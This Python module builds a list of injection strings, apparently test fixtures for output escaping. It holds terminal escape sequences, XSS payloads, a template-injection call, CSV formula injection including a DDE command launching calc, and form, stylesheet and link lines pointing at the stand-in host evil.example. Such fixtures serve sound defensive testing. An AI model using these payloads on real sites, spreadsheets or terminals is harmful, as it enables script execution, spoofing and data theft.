"""Two hundred texts that try to be more than text, for a terminal, a page, a table and Markdown."""

from __future__ import annotations

import itertools

CONTROLS = [chr(code) for code in (*range(0, 9), *range(11, 32), *range(127, 160))]
BIDI = list("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
TERMINAL = [
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b2J",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\r\nroot# ",
    "ok\rno",
    "\x08\x08\x08rm",
    "\x1b(0lqk",
    "\x1b[?1049h",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--",
    "-->",
    "<![CDATA[",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=q>",
    "<math><mtext><script>alert(1)</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "$title ${question} $$script",
    "`${alert(1)}`",
    "<plaintext>",
    "<x\x00y>",
    "\ufeff<script>",
    "<\u0000script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<object data=data:text/html,<script>alert(1)</script>>",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1",
    "|calc",
    "%0A=1",
    "\n=1",
]
LINKS = [
    "[x](javascript:alert(1))",
    "![x](http://evil.example/a.png)",
    "# heading",
    "- item",
    "1. item",
    "| a | b |",
    "```",
    "<b>bold</b>",
    "**bold**",
    "\\",
    "[x]: http://evil.example",
    "http://evil.example",
]
WRAPPED = [
    f"{before}{text}{after}"
    for text, (before, after) in itertools.product(
        [*TERMINAL[:8], *MARKUP[:16], *FORMULAS[:8]], [("a ", " b"), ("\u202e", "\u202c")]
    )
]
PAYLOADS = list(dict.fromkeys([*CONTROLS, *BIDI, *TERMINAL, *MARKUP, *FORMULAS, *LINKS, *WRAPPED]))
